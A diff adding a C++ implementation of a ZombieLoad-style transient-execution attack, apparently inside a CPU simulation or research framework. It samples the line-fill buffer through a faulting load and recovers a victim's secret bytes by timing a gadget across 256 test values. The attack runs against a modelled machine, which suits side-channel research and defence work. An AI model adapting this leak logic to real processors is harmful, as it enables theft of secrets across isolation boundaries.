@@ -1,0 +1,44 @@
+#include "core/attacks/zombieload.h"
+
+namespace whisper::core {
+
+TetZombieload::TetZombieload(os::Machine& m, Options opt)
+    : m_(m), opt_(opt),
+      window_(opt.window.value_or(preferred_window(m.config()))),
+      gadget_(make_tet_gadget({.window = window_,
+                               .source = SecretSource::FaultingLoad})) {}
+
+std::uint8_t TetZombieload::leak_byte(std::uint8_t victim_byte) {
+  analyzer_.reset();
+  const std::uint64_t start = m_.core().cycle();
+
+  std::array<std::uint64_t, isa::kNumRegs> regs{};
+  // Faulting load on an unmapped address: the assisted load samples the LFB.
+  regs[static_cast<std::size_t>(isa::Reg::RCX)] = kNullProbeAddress;
+
+  for (int batch = 0; batch < opt_.batches; ++batch) {
+    for (int tv = 0; tv <= 255; ++tv) {
+      // The victim touches its secret; the value is now in flight.
+      m_.victim_touch(victim_byte);
+      regs[static_cast<std::size_t>(isa::Reg::RBX)] =
+          static_cast<std::uint64_t>(tv);
+      const std::uint64_t tote = run_tote(m_, gadget_, regs);
+      analyzer_.add(tv, tote);
+      ++stats_.probes;
+    }
+    analyzer_.end_batch();
+  }
+
+  stats_.cycles += m_.core().cycle() - start;
+  return static_cast<std::uint8_t>(analyzer_.decode());
+}
+
+std::vector<std::uint8_t> TetZombieload::leak(
+    std::span<const std::uint8_t> victim_stream) {
+  std::vector<std::uint8_t> out;
+  out.reserve(victim_stream.size());
+  for (std::uint8_t b : victim_stream) out.push_back(leak_byte(b));
+  return out;
+}
+
+}  // namespace whisper::core
